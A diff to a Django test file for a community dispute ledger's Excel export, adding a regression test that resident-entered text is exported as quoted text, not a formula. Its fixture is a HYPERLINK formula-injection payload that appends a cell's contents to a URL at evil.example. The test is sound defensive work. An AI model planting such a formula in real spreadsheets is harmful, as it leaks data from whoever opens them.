@@ -14,12 +14,16 @@ from django.utils import timezone
 from linli.mediation.actions import dispute_transition
 
 
-def _rows(client, query: str) -> list[tuple]:
+def _sheet(client, query: str):
     from openpyxl import load_workbook
 
     r = client.get(reverse("mediation:ledger_export") + query)
     assert r.status_code == 200
-    return list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
+    return load_workbook(io.BytesIO(r.getvalue())).active  # streamed from a temporary file
+
+
+def _rows(client, query: str) -> list[tuple]:
+    return list(_sheet(client, query).iter_rows(values_only=True))
 
 
 @pytest.fixture
@@ -67,6 +71,18 @@ def test_the_filters_on_the_page_the_api_and_the_export(client, world, community
         assert all(n in page for n in expected), query
         api = client.get("/api/v1/disputes" + query).json()["items"]
         assert {i["number"] for i in api} == expected, query
+
+
+def test_what_a_resident_typed_is_text_in_the_export_never_a_formula(client, community_staff, file_dispute):
+    """The ledger wrote the facts through openpyxl, which made text starting with = a live formula."""
+    facts = '=HYPERLINK("http://evil.example/?"&E2,"查看详情")'
+    d = file_dispute(facts=facts)
+    client.force_login(community_staff)
+    sheet = _sheet(client, "?status=")
+    [cell] = [row[5] for row in sheet.iter_rows(min_row=2) if row[1].value == d.number]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (facts, "s", True)
+    assert client.get(reverse("mediation:ledger_export"))["Content-Disposition"] == (
+        "attachment; filename*=utf-8''%E7%9F%9B%E7%9B%BE%E7%BA%A0%E7%BA%B7%E5%8F%B0%E8%B4%A6.xlsx")
 
 
 @pytest.mark.parametrize("query", ["?after=99999999999999999999999", "?grid=99999999999999999999999",
